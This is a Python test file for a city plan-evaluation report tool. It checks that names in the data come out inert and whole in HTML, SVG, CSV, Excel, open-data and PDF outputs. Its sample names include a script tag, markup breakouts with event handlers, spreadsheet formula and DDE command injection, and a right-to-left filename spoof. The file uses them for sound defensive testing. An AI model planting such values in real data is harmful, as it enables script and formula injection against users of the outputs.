"""Names from a city's data break out of nothing that is published, and nothing of them is lost."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pandas as pd
import pytest
from frictionless import Package
from frictionless.resources import TableResource
from nbformat import v4
from pypdf import PdfReader
from tests.small_plan import PLAN, PLAN_TOML, TABLES, Rows, write_edition
from tests.test_html import Page

from analysis import chart
from analysis.chart.theme import drawable
from analysis.evaluation.year import Evaluation, evaluate
from analysis.forms import html, pdf
from analysis.forms.open_data import write_open_data
from analysis.forms.workbook import write_workbook
from analysis.report import export
from analysis.telling import appendix, display
from analysis.words.cell_text import csv_text, runs, visible

pytestmark = pytest.mark.notebooks

NAMES = {
    "script": "<script>alert(1)</script>",
    "end-of-table": '</td></table></svg><h1 onclick="x()">偽の見出し</h1>',
    "formula": '=HYPERLINK("http://example.jp/?"&A1,"開く")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full-width-formula": "＝１＋１",
    "minus-words": "-取組",
    "pipe": "窓口|申請",
    "newline": "一行目\n二行目",
    "right-to-left": "取組\u202egpj.exe\u200f終わり",
    "rare-kanji": "𠮷野家と髙橋",
    "emoji": "電子申請😀👨‍👩‍👧",
    "long": "とても長い取組の名称" * 30,
    "braces": "{{ 7 * 7 }}${x}$a_b$%s",
    "header-codes": 'R&D推進&P&"Arial"_x000D_',
    "quotes": "\"引用\",'符','1",
}


@pytest.fixture(scope="module", params=NAMES.values(), ids=list(NAMES))
def name(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def tables_with(name: str) -> dict[str, Rows]:
    """Return the small plan with a name wherever a text of the data may stand."""
    measures = [{**TABLES["measures"][0], "name": name, "department": name}, *TABLES["measures"][1:]]
    words = {"indicator": name, "unit": name, "target_text": name, "actual_text": name, "source": name}
    indicators = [*TABLES["indicators"][:2], {**TABLES["indicators"][2], **words}]
    published = [{"table": name, "row": name, "column": name, "published_value": name, "source": name}]
    return {**TABLES, "measures": measures, "indicators": indicators, "published": published}


def toml_with(name: str) -> str:
    """Return the plan with a name as title, policy, word and meaning of a grade."""
    shown = json.dumps(name, ensure_ascii=False)
    words = ("情報化計画", "事業", "便利な窓口", "計画どおり")
    return re.sub("|".join(f'"{word}"' for word in words), lambda match: shown, PLAN_TOML)


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory, name: str) -> Path:
    return write_edition(tmp_path_factory.mktemp("root"), tables=tables_with(name), toml=toml_with(name))


@pytest.fixture(scope="module")
def evaluation(root: Path) -> Evaluation:
    return evaluate(PLAN, 2021, root)


def test_data_arrive_as_they_are(evaluation: Evaluation, name: str) -> None:
    assert evaluation.measures["name"].iloc[0] == name
    assert evaluation.plan.policies["1"] == name


def frames(evaluation: Evaluation) -> Iterator[pd.DataFrame]:
    yield display.measure_list_table(evaluation)
    yield display.grade_counts_table(evaluation, "annual")
    yield display.grade_history_table(evaluation)
    yield display.missed_table(evaluation)
    yield display.budget_remarks_table(evaluation)
    yield appendix.published_agreement_table(evaluation)
    yield appendix.scale_table(evaluation.plan)


class TestHtml:
    def test_markup_stays_text_and_cells_stay_whole(self, evaluation: Evaluation, name: str) -> None:
        parts = [
            html.table(frame, caption=name, table_id=f"t{number}", note=name)
            for number, frame in enumerate(frames(evaluation))
        ]
        outputs = [v4.new_output("display_data", data={"text/html": part}) for part in parts]
        notebook = v4.new_notebook(cells=[v4.new_code_cell("x", outputs=outputs)])
        page = Page(html.to_html(notebook, title=name, subtitle=name, description=name))
        tags = {tag for tag, _, _ in page.elements}
        assert not tags & {"script", "iframe", "object", "embed", "svg"}
        assert not [key for _, attributes, _ in page.elements for key in attributes if key.startswith("on")]
        assert sum(tag == "h1" for tag, _, _ in page.elements) == 1
        assert sum(tag == "table" for tag, _, _ in page.elements) == len(parts)
        cells = [words for _, words in page.named("td", "th")]
        assert any(visible(name) in words for words in cells)
        assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f]", "".join(cells))


SVG = "{http://www.w3.org/2000/svg}"
#: Names that mean something where there is no spreadsheet.
DRAWN = ("script", "end-of-table", "newline", "right-to-left", "long", "braces", "quotes")


@pytest.fixture(scope="module")
def drawings(evaluation: Evaluation) -> dict[str, tuple[chart.Chart, ElementTree.Element]]:
    """Every chart of the report that there is something for, and its picture."""
    drawn = [maker(evaluation) for maker in chart.CHARTS.values()]
    charts = [one for one in drawn if isinstance(one, chart.Chart)]
    return {one.name: (one, ElementTree.fromstring(chart.svg_bytes(one))) for one in charts}


@pytest.mark.parametrize("name", [NAMES[kind] for kind in DRAWN], ids=DRAWN, indirect=True, scope="module")
class TestSvg:
    def test_picture_runs_nothing_and_loads_nothing(
        self, drawings: dict[str, tuple[chart.Chart, ElementTree.Element]]
    ) -> None:
        assert len(drawings) >= 5
        for _, tree in drawings.values():
            for element in tree.iter():
                assert element.tag not in (f"{SVG}script", f"{SVG}foreignObject", f"{SVG}a", f"{SVG}image")
                assert not [key for key in element.attrib if key.startswith("on")]
                addresses = [value for key, value in element.attrib.items() if key.endswith("href")]
                assert all(value.startswith("#") for value in addresses)

    def test_name_of_a_policy_is_drawn_whole_or_told_in_the_table(
        self, drawings: dict[str, tuple[chart.Chart, ElementTree.Element]], name: str
    ) -> None:
        drawn, tree = drawings["grades-annual"]
        words = re.sub(r"\s", "", "".join(tree.itertext()))
        label = re.sub(r"\s", "", drawable(name))
        assert label in words or (len(label) > 100 and label[:10] in words)
        assert any(name in cell for cell in drawn.data.iloc[:, 0])


class TestCsv:
    def test_no_cell_runs_and_none_is_lost(self, evaluation: Evaluation, tmp_path: Path) -> None:
        for number, frame in enumerate(frames(evaluation)):
            path = tmp_path / "out" / f"{number}.csv"
            export.write_csv(frame, path)
            with path.open(encoding="utf-8-sig", newline="") as file:
                read = list(csv.reader(file))
            expected = [list(frame.columns), *frame.astype(object).to_numpy().tolist()]
            assert [[cell.removeprefix("'") for cell in row] for row in read] == [
                [visible(str(cell)).removeprefix("'") for cell in row] for row in expected
            ]
            assert not [cell for row in read for cell in row if runs(cell)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", True),
        ("@SUM(A1)", True),
        ("＝１", True),
        ("\t=1", True),
        ("-取組", True),
        ("-5.2%", False),
        ("+1,000", False),
        ("-", False),
        ("－", False),
        ("▲5", False),
        ("1=1", False),
    ],
)
def test_formula_is_told_from_a_number_and_a_dash(text: str, expected: bool) -> None:
    assert runs(text) is expected


@pytest.fixture(scope="module")
def book(evaluation: Evaluation, name: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The workbook of the plan, with a finding."""
    found = {"rule": name, "severity": "info", "measure_id": "1-1", "fiscal_year": 2021}
    findings = pd.DataFrame([{**found, "message": name, "evidence": name, "source": name}])
    path = tmp_path_factory.mktemp("book") / "a.xlsx"
    write_workbook(evaluation, findings, path)
    return path


class TestWorkbook:
    def test_no_cell_is_a_formula_and_no_link_leads_out(self, book: Path) -> None:
        cells = [cell for sheet in openpyxl.load_workbook(book) for row in sheet.iter_rows() for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        assert {cell.hyperlink.target for cell in cells if cell.hyperlink} == {None}
        with zipfile.ZipFile(book) as archive:
            assert not [entry for entry in archive.namelist() if "external" in entry.lower()]

    def test_texts_are_whole(self, book: Path, name: str) -> None:
        opened = openpyxl.load_workbook(book)
        for sheet in ("取組一覧", "指標", "予算・決算", "評価の推移", "確認事項", "公表値との突合"):
            values = [cell.value for row in opened[sheet].iter_rows() for cell in row if cell.value is not None]
            assert visible(name) in values, sheet

    def test_text_that_looks_like_a_formula_is_marked_as_text(self, book: Path, name: str) -> None:
        sheet = openpyxl.load_workbook(book)["確認事項"]
        marks = {cell.quotePrefix for row in sheet.iter_rows() for cell in row if cell.value == visible(name)}
        assert marks == {runs(visible(name))}

    def test_head_of_the_paper_prints_no_codes_of_the_data(self, book: Path, name: str) -> None:
        with zipfile.ZipFile(book) as archive:
            pages = [entry for entry in archive.namelist() if entry.startswith("xl/worksheets/sheet")]
            heads = [ElementTree.fromstring(archive.read(entry)).find(".//{*}oddHeader") for entry in pages]
        assert len(heads) == 8
        for head in heads:
            assert head is not None and head.text is not None
            assert re.findall(r"&.\d*", head.text.replace("&&", "")) == ["&L", "&9", "&R", "&9"]
            assert len(head.text) <= 255

    def test_every_part_is_well_formed(self, book: Path) -> None:
        with zipfile.ZipFile(book) as archive:
            for entry in archive.namelist():
                ElementTree.fromstring(archive.read(entry))


class TestOpenData:
    def test_reader_gets_every_text_back(self, root: Path, name: str) -> None:
        package = Package(str(write_open_data(root, PLAN)[-1]))
        read = {one.name: one.read_rows() for one in package.resources if isinstance(one, TableResource)}
        expected = csv_text(name)
        assert read["measures"][0]["name"] == expected
        assert read["published"][0]["published_value"] == expected
        assert read["policies"][0]["name"] == expected
        assert package.title is not None and visible(name) in visible(package.title)


@pytest.mark.browser
def test_printed_page_holds_every_name(tmp_path: Path) -> None:
    frame = pd.DataFrame({"種類": list(NAMES), "名称": list(NAMES.values())})
    outputs = [v4.new_output("display_data", data={"text/html": html.table(frame, caption="名称", table_id="t")})]
    notebook = v4.new_notebook(cells=[v4.new_code_cell("x", outputs=outputs)])
    page = tmp_path / "a.html"
    page.write_text(html.to_html(notebook, title="名称", subtitle="市", description="説明"), encoding="utf-8")
    pdf.write_pdf(page, tmp_path / "a.pdf", NAMES["script"])
    reader = PdfReader(tmp_path / "a.pdf")
    text = re.sub(r"\s", "", "".join(sheet.extract_text() for sheet in reader.pages))
    drawn = {kind: re.sub(r"\s", "", visible(name)) for kind, name in NAMES.items() if kind != "emoji"}
    assert [kind for kind, name in drawn.items() if name not in text] == []
    assert reader.metadata is not None
    assert reader.metadata.title == NAMES["script"]
